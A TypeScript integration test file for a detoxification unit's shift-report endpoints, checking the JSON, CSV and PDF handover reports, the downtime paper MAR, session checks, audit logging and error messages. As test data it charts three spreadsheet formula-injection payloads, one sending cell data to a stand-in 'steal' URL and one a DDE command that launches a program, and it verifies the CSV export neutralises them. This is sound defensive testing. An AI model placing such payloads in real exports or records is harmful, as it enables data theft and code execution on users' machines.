import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { formatDoseMg } from '@detox/shared';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { admitBody, cows18, doseBody, expectError, standingOrders, useApiServer } from '../support/api.js';
import { selectAll } from '../support/sqlite-counts.js';
import { SESSION_COOKIE, type TrpcHttp, dataOf } from '../support/trpc-http.js';

const api = useApiServer();

interface ReportDto {
  unit: { id: number; name: string; timeZone: string };
  window: {
    shiftStart: string;
    shiftEnd: string;
    label: string;
    inProgress: boolean;
    previousShiftStart: string;
    nextShiftStart: string | null;
  };
  generatedBy: { name: string };
  totals: { census: number };
  patients: {
    bed: string;
    patient: { name: string };
    scores: unknown[];
    vitalsOutOfRange: unknown[];
    administrations: { drugName: string; doseMg: number; givenAt: string }[];
    /** When the next score is due and why (issue 15, item 2); one CSV row. */
    nextAssessment: { dueAt: string; because: string; why: string; overdue: boolean } | null;
    overdue: unknown[];
    openAlerts: unknown[];
    /** Open alerts and those acknowledged in the shift: one CSV row each (issue 15). */
    shiftAlerts: unknown[];
    orders: {
      active: { id: number; title: string; drugName: string }[];
      dueNext: { orderId: number; dueAt: string }[];
      prnUse: { orderId: number; title: string; given: number; held: number; refused: number }[];
      awaitingCountersign: { id: number }[];
    };
  }[];
  ordersAwaitingCountersign: {
    id: number;
    bed: string;
    patientName: string;
    title: string;
    orderedBy: string;
    enteredBy: string;
  }[];
}

interface Download {
  status: number;
  type: string | null;
  disposition: string | null;
  body: Buffer;
  /** tRPC's error shape: one error shape leaves the server (session resolver and downloads, issue 14). */
  json: () => {
    error: {
      code: number;
      message: string;
      data: { code: string; httpStatus: number; issues: { path: string; message: string }[] };
    };
  };
}

/** A plain GET as a browser link would make it, with the client's session cookie if it has one. */
async function download(client: TrpcHttp | null, pathAndQuery: string): Promise<Download> {
  const headers: Record<string, string> = client?.cookie ? { cookie: `${SESSION_COOKIE}=${client.cookie}` } : {};
  const response = await fetch(`${api.server.url}${pathAndQuery}`, { headers });
  const body = Buffer.from(await response.arrayBuffer());
  return {
    status: response.status,
    type: response.headers.get('content-type'),
    disposition: response.headers.get('content-disposition'),
    body,
    json: () => JSON.parse(body.toString('utf8')),
  };
}

function pdfToText(pdf: Buffer): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'detox-pdf-'));
  try {
    const file = path.join(dir, 'report.pdf');
    writeFileSync(file, pdf);
    return execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const COLUMNS = [
  'unit',
  'shift_start',
  'shift_end',
  'bed',
  'patient',
  'mrn',
  'illness_severity',
  'event',
  'time',
  'item',
  'value',
  'unit_of_measure',
  'band_or_status',
  'route',
  'prn',
  'detail',
  'record_status',
  'recorded_by',
];
const FORMULA_NOTE = '=HYPERLINK("http://example.invalid/steal?d="&A1,"click me")';
const FORMULA_INDICATION = '@SUM(1+1) nausea';
const FORMULA_HOLD = '+cmd|" /C calc"!A0';

const orderEventCount = (p: ReportDto['patients'][number]) =>
  p.orders.active.length + p.orders.dueNext.length + p.orders.prnUse.length + p.orders.awaitingCountersign.length;
const eventCount = (r: ReportDto) =>
  r.patients.reduce(
    (n, p) =>
      n +
      p.scores.length +
      p.vitalsOutOfRange.length +
      p.administrations.length +
      (p.nextAssessment ? 1 : 0) +
      p.overdue.length +
      p.shiftAlerts.length +
      orderEventCount(p),
    0,
  );
const EVENTS = [
  'score',
  'vital-sign',
  'administration',
  'next-assessment',
  'overdue-assessment',
  'open-alert',
  'acknowledged-alert',
  'order',
  'dose-due-next-shift',
  'prn-use',
  'order-awaiting-countersignature',
];
const auditCount = (entity: string) =>
  selectAll<{ n: number }>(api.sqlitePath, 'select count(*) as n from audit_event where entity = ?', entity)[0]?.n ?? 0;

describe('shift report over HTTP', () => {
  let current: ReportDto;
  let chartedAt: string;
  let verbalOrderId: number;

  beforeAll(async () => {
    current = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId }));
    // Chart inside the current shift, text a spreadsheet would run as a formula included.
    chartedAt = new Date(
      Math.max(Date.parse(current.window.shiftStart) + 60_000, Date.now() - 10 * 60_000),
    ).toISOString();
    const admissionId = (
      dataOf(
        await api.nurse.mutate('admissions.admit', admitBody(api.unitId, '4', 'API-REP-1', { admittedAt: chartedAt })),
      ) as { admissionId: number }
    ).admissionId;
    await standingOrders(api, admissionId);
    dataOf(
      await api.nurse.mutate('assessments.record', cows18(admissionId, { takenAt: chartedAt, note: FORMULA_NOTE })),
    );
    dataOf(
      await api.nurse.mutate(
        'medications.record',
        doseBody(admissionId, { givenAt: chartedAt, indication: FORMULA_INDICATION }),
      ),
    );
    dataOf(
      await api.nurse.mutate(
        'medications.record',
        doseBody(admissionId, {
          drug: 'ibuprofen',
          doseMg: 400,
          givenAt: chartedAt,
          status: 'held',
          holdReason: FORMULA_HOLD,
        }),
      ),
    );
    // A telephone order the physician has not countersigned yet, and a scheduled one every 6 h.
    const physicianId = selectAll<{ id: number }>(
      api.sqlitePath,
      "select id from app_user where name = 'Dr. Ben Carter'",
    )[0]?.id;
    verbalOrderId = (
      dataOf(
        await api.nurse.mutate('orders.verbal', {
          admissionId,
          orderedBy: physicianId,
          readBack: true,
          channel: 'telephone',
          drug: 'trazodone',
          doseMg: 50,
          route: 'PO',
          kind: 'prn',
          indication: 'Insomnia',
        }),
      ) as { id: number }
    ).id;
    dataOf(
      await api.physician.mutate('orders.create', {
        admissionId,
        drug: 'methocarbamol',
        doseMg: 750,
        route: 'PO',
        kind: 'scheduled',
        everyHours: 6,
      }),
    );
    current = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId }));
  });

  it('reports.shift gives the shift in progress, one section per occupied bed, and audits the read', async () => {
    const before = auditCount('shift-report');
    const report = dataOf(await api.physician.query<ReportDto>('reports.shift', { unitId: api.unitId }));
    expect(report.window.inProgress).toBe(true);
    expect(Date.parse(report.window.shiftStart)).toBeLessThanOrEqual(Date.now());
    expect(Date.parse(report.window.shiftEnd)).toBeGreaterThan(Date.now());
    expect(report.window.nextShiftStart).toBeNull();
    expect(report.patients.map((p) => p.patient.name)).toContain('Test Patient API-REP-1');
    expect(report.patients.map((p) => p.patient.name)).toContain('Maria Alvarez');
    expect(report.totals.census).toBe(report.patients.length);
    expect(report.generatedBy.name).toBe('Dr. Ben Carter');
    expect(auditCount('shift-report')).toBe(before + 1);
  });

  it('reports.shift takes an earlier shift by its start, and refuses a time that is not a start, naming the nearest starts', async () => {
    const previous = dataOf(
      await api.nurse.query<ReportDto>('reports.shift', {
        unitId: api.unitId,
        shiftStart: current.window.previousShiftStart,
      }),
    );
    expect(previous.window.shiftEnd).toBe(current.window.shiftStart);
    expect(previous.window.inProgress).toBe(false);
    const off = new Date(Date.parse(current.window.previousShiftStart) + 30 * 60_000).toISOString();
    const res = await api.nurse.query('reports.shift', { unitId: api.unitId, shiftStart: off });
    expectError(res, {
      status: 400,
      code: 'BAD_REQUEST',
      message: /is not the start of a shift on Detox North .* the nearest shift starts are \S+ and \S+$/,
      issues: [{ path: 'shiftStart' }],
    });
    expectError(await api.nurse.query('reports.shift', { unitId: api.unitId, shiftStart: 'yesterday' }), {
      status: 400,
      code: 'BAD_REQUEST',
      issues: [{ path: 'shiftStart' }],
    });
    expectError(await api.nurse.query('reports.shift', { unitId: 987_654 }), {
      status: 404,
      code: 'NOT_FOUND',
      message: 'Unit 987654 does not exist',
    });
  });

  it('reports.shift needs a session', async () => {
    expectError(await api.anonymous.query('reports.shift', { unitId: api.unitId }), {
      status: 401,
      code: 'UNAUTHORIZED',
    });
  });

  it('GET /reports/shift.csv: a header and one row per event, formulas neutralised, audited', async () => {
    const before = auditCount('shift-report.csv');
    const res = await download(api.nurse, `/reports/shift.csv?unitId=${api.unitId}`);
    expect(res.status).toBe(200);
    expect(res.type).toBe('text/csv; charset=utf-8');
    expect(res.disposition).toMatch(/^attachment; filename="shift-report-detox-north-[a-z0-9-]+\.csv"$/);
    const rows: string[][] = parse(res.body, { bom: true, relax_column_count: false });
    expect(rows[0]).toEqual(COLUMNS);
    const records = rows.slice(1).map((r) => Object.fromEntries(COLUMNS.map((c, i) => [c, r[i] ?? ''])));
    const report = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId }));
    expect(records).toHaveLength(eventCount(report));
    for (const r of records) expect(EVENTS).toContain(r.event);
    // Every charted event of the new patient is there, with the formulas turned into text.
    const mine = records.filter((r) => r.patient === 'Test Patient API-REP-1');
    const score = mine.find((r) => r.event === 'score');
    expect(score).toMatchObject({
      bed: '4',
      item: 'COWS',
      value: '18',
      band_or_status: 'Moderate',
      detail: `'${FORMULA_NOTE}`,
      record_status: 'active',
      recorded_by: 'Ana Reyes, RN',
    });
    const given = mine.find((r) => r.event === 'administration' && r.band_or_status === 'given');
    expect(given).toMatchObject({
      item: 'Ondansetron',
      value: '4',
      unit_of_measure: 'mg',
      route: 'PO',
      prn: 'yes',
      detail: `'${FORMULA_INDICATION}; PRN effect: not reassessed, before 18`,
    });
    const held = mine.find((r) => r.event === 'administration' && r.band_or_status === 'held');
    expect(held).toMatchObject({ item: 'Ibuprofen', value: '400', detail: `'${FORMULA_HOLD}` });
    // COWS 18 (moderate): the next one an hour later, not the routine 4 h, and why in words (issue 15, item 2).
    expect(mine.filter((r) => r.event === 'next-assessment')).toEqual([
      expect.objectContaining({
        item: 'Next COWS',
        band_or_status: 'due',
        detail: 'every hour while COWS is moderate or worse (18, moderate)',
      }),
    ]);
    // The orders: each active one, the doses due next shift, PRN use against each, the telephone order to countersign.
    const patient = report.patients.find((p) => p.patient.name === 'Test Patient API-REP-1');
    expect(mine.filter((r) => r.event === 'order').map((r) => r.item)).toEqual(
      patient?.orders.active.map((o) => o.drugName),
    );
    expect(mine.filter((r) => r.event === 'order').length).toBe(9);
    expect(mine.find((r) => r.event === 'order' && r.item === 'Methocarbamol')).toMatchObject({
      value: '750',
      unit_of_measure: 'mg',
      band_or_status: 'scheduled',
      route: 'PO',
      prn: 'no',
      record_status: 'active',
      recorded_by: 'Dr. Ben Carter',
    });
    expect(mine.find((r) => r.event === 'order' && r.item === 'Trazodone')).toMatchObject({
      band_or_status: 'prn, awaiting countersignature',
      recorded_by: 'Dr. Ben Carter',
    });
    const due = mine.filter((r) => r.event === 'dose-due-next-shift');
    expect(due.length).toBeGreaterThan(0);
    expect(due.length).toBe(patient?.orders.dueNext.length);
    for (const r of due) expect(r).toMatchObject({ item: 'Methocarbamol', value: '750', band_or_status: 'due' });
    expect(mine.find((r) => r.event === 'prn-use' && r.item === 'Ondansetron')).toMatchObject({
      value: '4',
      band_or_status: '1 given, 0 held, 0 refused',
      prn: 'yes',
    });
    expect(mine.find((r) => r.event === 'prn-use' && r.item === 'Ibuprofen')).toMatchObject({
      value: '0',
      band_or_status: '0 given, 1 held, 0 refused',
    });
    expect(mine.find((r) => r.event === 'order-awaiting-countersignature')).toMatchObject({
      item: 'Trazodone',
      band_or_status: 'awaiting countersignature',
      recorded_by: 'Ana Reyes, RN',
    });
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(auditCount('shift-report.csv')).toBe(before + 1);
  });

  it('GET /reports/shift.pdf: every patient and every dose of the shift, unit, shift, printer and page numbers on each page', async () => {
    const before = auditCount('shift-report.pdf');
    const res = await download(
      api.physician,
      `/reports/shift.pdf?unitId=${api.unitId}&shiftStart=${encodeURIComponent(current.window.previousShiftStart)}`,
    );
    expect(res.status).toBe(200);
    expect(res.type).toBe('application/pdf');
    expect(res.body.subarray(0, 5).toString()).toBe('%PDF-');
    const report = dataOf(
      await api.physician.query<ReportDto>('reports.shift', {
        unitId: api.unitId,
        shiftStart: current.window.previousShiftStart,
      }),
    );
    const text = pdfToText(res.body);
    const pages = text.split('\f').filter((p) => p.trim().length > 0);
    expect(pages.length).toBeGreaterThan(1);
    pages.forEach((page, i) => {
      expect(page).toContain('Detox North · Shift handover report');
      expect(page).toContain(`Shift ${report.window.label}`);
      expect(page).toContain('by Dr. Ben Carter (physician)');
      expect(page).toContain(`Page ${i + 1} of ${pages.length}`);
    });
    for (const p of report.patients) expect(text).toContain(p.patient.name);
    const doses = report.patients.flatMap((p) => p.administrations);
    expect(doses.length).toBeGreaterThan(0);
    for (const d of doses) expect(text).toContain(`${d.drugName} ${formatDoseMg(d.doseMg)}`);
    expect(auditCount('shift-report.pdf')).toBe(before + 1);
  });

  it("GET /reports/shift.pdf: the orders of each patient and the unit's orders waiting for a countersignature", async () => {
    const res = await download(api.physician, `/reports/shift.pdf?unitId=${api.unitId}`);
    expect(res.status).toBe(200);
    const text = pdfToText(res.body).replace(/\s+/g, ' ');
    expect(text).toContain('P Orders');
    expect(text).toContain('Methocarbamol 750 mg PO scheduled');
    expect(text).toContain('Due next shift');
    expect(text).toMatch(/PRN use this shift Ondansetron 4(–\d+)? mg PO PRN: 1 given \(4 mg\)/);
    expect(text).toContain('Orders waiting for a countersignature');
    expect(text).toMatch(
      /Bed 4 Test Patient API-REP-1 Trazodone 50 mg PO PRN — for Insomnia[^(]* \(telephone order from Dr\. Ben Carter, entered by Ana Reyes, RN, AWAITING COUNTERSIGNATURE\)/,
    );
    const report = dataOf(await api.physician.query<ReportDto>('reports.shift', { unitId: api.unitId }));
    expect(report.ordersAwaitingCountersign.map((o) => o.id)).toContain(verbalOrderId);
  });

  it('GET /reports/downtime.pdf: the active orders as a paper MAR, with what is due when, PRN criteria, limits and boxes to initial', async () => {
    const res = await download(api.nurse, `/reports/downtime.pdf?unitId=${api.unitId}`);
    expect(res.status).toBe(200);
    const text = pdfToText(res.body).replace(/\s+/g, ' ');
    expect(text).toContain('Medication orders (paper MAR): write the time and your initials for each dose');
    expect(text).toContain('Time / init.');
    // Table cells wrap and interleave in pdftotext's layout, so the phrases are looked for one by one.
    const sheet = text.slice(text.indexOf('Bed 4 Test Patient API-REP-1'));
    const mar = sheet.slice(sheet.indexOf('Medication orders (paper MAR)'));
    expect(mar).toContain('Methocarbamol 750 mg');
    expect(mar).toMatch(/every 6 h: \d\d:\d\d/);
    expect(mar).toContain('at most every 6 h');
    expect(mar).toMatch(/PRN for Insomnia/);
    expect(mar).toMatch(/awaiting countersignature/);
  });

  it('GET /reports/downtime.pdf: a sheet per occupied bed with its doses of the last 24 h; unitId may be left out', async () => {
    const before = auditCount('downtime-snapshot');
    const res = await download(api.nurse, '/reports/downtime.pdf');
    expect(res.status).toBe(200);
    expect(res.type).toBe('application/pdf');
    const text = pdfToText(res.body);
    const pages = text.split('\f').filter((p) => p.trim().length > 0);
    pages.forEach((page, i) => {
      expect(page).toContain('Detox North · Downtime snapshot');
      expect(page).toContain(`Page ${i + 1} of ${pages.length}`);
    });
    // The nurse's only unit is Detox North (Detox South has its own sheet).
    const occupied = selectAll<{ name: string }>(
      api.sqlitePath,
      'select p.name from admission a join patient p on p.id = a.patient_id where a.discharged_at is null and a.unit_id = ?',
      api.unitId,
    );
    expect(occupied.length).toBeGreaterThan(0);
    for (const { name } of occupied) expect(text).toContain(name);
    const recent = selectAll<{ drug: string; dose_mg: number }>(
      api.sqlitePath,
      'select m.drug, m.dose_mg from medication_administration m join admission a on a.id = m.admission_id where a.discharged_at is null and m.given_at > ? and a.unit_id = ?',
      new Date(Date.now() - 23 * 3_600_000).toISOString(),
      api.unitId,
    );
    for (const m of recent)
      expect(text).toContain(`${m.drug[0]?.toUpperCase()}${m.drug.slice(1)} ${formatDoseMg(m.dose_mg)}`);
    expect(text).toContain('Due next');
    expect(auditCount('downtime-snapshot')).toBe(before + 1);
  });

  it('answers 401 JSON without a session on every download', async () => {
    for (const url of [
      '/reports/shift.csv',
      '/reports/shift.pdf',
      '/reports/downtime.pdf',
      '/exports/fhir?admissionId=1',
    ]) {
      const res = await download(null, url);
      expect(res.status, url).toBe(401);
      expect(res.type).toMatch(/^application\/json/);
      expect(res.json().error).toMatchObject({
        code: -32001,
        data: { code: 'UNAUTHORIZED', httpStatus: 401 },
        message: 'You are not logged in, or your session has ended; log in again',
      });
    }
    const forged = await fetch(`${api.server.url}/reports/shift.csv`, {
      headers: { cookie: `${SESSION_COOKIE}=not-a-session` },
    });
    expect(forged.status).toBe(401);
  });

  it('answers 400 for a bad unitId or shiftStart and 404 for an unknown unit, with a clear message', async () => {
    for (const file of ['shift.csv', 'shift.pdf']) {
      const bad = await download(api.nurse, `/reports/${file}?unitId=north`);
      expect(bad.status).toBe(400);
      expect(bad.json().error).toMatchObject({
        data: { code: 'BAD_REQUEST', issues: [{ path: 'unitId' }] },
        message: 'unitId: unitId must be a whole number id, such as unitId=1',
      });
      const off = await download(
        api.nurse,
        `/reports/${file}?unitId=${api.unitId}&shiftStart=${encodeURIComponent('2026-01-15T08:00:00-05:00')}`,
      );
      expect(off.status).toBe(400);
      expect(off.json().error.message).toBe(
        '2026-01-15T08:00:00-05:00 is not the start of a shift on Detox North (shifts start at 07:00 and 19:00, America/New_York time); the nearest shift starts are 2026-01-15T07:00:00-05:00 and 2026-01-15T19:00:00-05:00',
      );
      const noOffset = await download(api.nurse, `/reports/${file}?shiftStart=2026-01-15T07:00:00`);
      expect(noOffset.status).toBe(400);
      expect(noOffset.json().error.data.issues[0]).toMatchObject({ path: 'shiftStart' });
      const unknown = await download(api.nurse, `/reports/${file}?unitId=987654`);
      expect(unknown.status).toBe(404);
      expect(unknown.json().error).toMatchObject({
        data: { code: 'NOT_FOUND' },
        message: 'Unit 987654 does not exist',
      });
    }
    expect((await download(api.nurse, '/reports/downtime.pdf?unitId=0')).status).toBe(400);
    expect((await download(api.nurse, '/reports/downtime.pdf?unitId=987654')).status).toBe(404);
  });
});
